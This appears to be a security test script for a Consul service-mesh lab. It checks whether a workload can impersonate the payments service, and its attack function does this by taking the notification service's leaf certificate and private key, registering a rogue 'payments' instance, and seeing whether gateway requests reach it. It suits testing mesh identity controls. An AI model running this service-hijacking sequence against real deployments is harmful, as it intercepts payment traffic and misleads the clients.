// NIST SP 800-204A: where a name leads is the control plane's word, or DNS's; who answers there is proved by the certificate
// alone. Whoever has both the catalog and another service's leaf must still get no request that was meant for payments.
const consul = (lab, token, r) => lab.mesh.http(Object.assign({ address: lab.control.consul_http, tls: { ca: lab.ca, serverName: '127.0.0.1' }, headers: token ? [['X-Consul-Token', token]] : [] }, r));

const instance = 'payments-elsewhere';

function login(lab, service) {
  const BearerToken = lab.mesh.read(`${lab.folders[service]}/consul.jwt`).text.trim();
  const res = consul(lab, '', { method: 'POST', path: '/v1/acl/login', body: JSON.stringify({ AuthMethod: 'workloads', BearerToken }) });
  if (res.status !== 200) throw new Error(`login as ${service}: ${res.status || res.error}`);
  return JSON.parse(res.body).SecretID;
}

const asked = (lab) => lab.race([...Array(12)].map(() => ({ path: '/v1/account', token: lab.tokens.alice })));

export function benign(lab) {
  const answers = asked(lab).map((res) => res.status);
  lab.judge(answers.every((status) => status === 200), `status ${answers}`);
}

export function attack(lab) {
  const leaf = JSON.parse(consul(lab, login(lab, 'notification'), { path: '/v1/agent/connect/ca/leaf/notification' }).body);
  const server = lab.mesh.listen({ tls: { cert: leaf.CertPEM, key: leaf.PrivateKeyPEM }, body: '{"owner":"alice","balance":1}' });
  const [Address, port] = server.address.split(':');
  const token = login(lab, 'payments');
  const entry = { ID: instance, Name: 'payments', Address, Port: Number(port), Connect: { Native: true } };
  const res = consul(lab, token, { method: 'PUT', path: '/v1/agent/service/register', body: JSON.stringify(entry) });
  if (res.status !== 200) throw new Error(`register: ${res.status} ${res.body}`);
  let came = [];
  for (let n = 0; n < 20 && came.length === 0; n++) {
    asked(lab);
    came = server.await(300);
  }
  consul(lab, token, { method: 'PUT', path: `/v1/agent/service/deregister/${instance}` });
  server.close();
  const got = came.find((one) => one.method);
  lab.report({ outcome: got ? 'gained' : came.length ? 'refused' : 'error', peers: [server.address],
    detail: got ? `${got.method} ${got.path} of the gateway's` : came.length ? `${came[0].error}` : 'nobody came' });
}

export function revert(lab) {
  consul(lab, login(lab, 'payments'), { method: 'PUT', path: `/v1/agent/service/deregister/${instance}` });
}
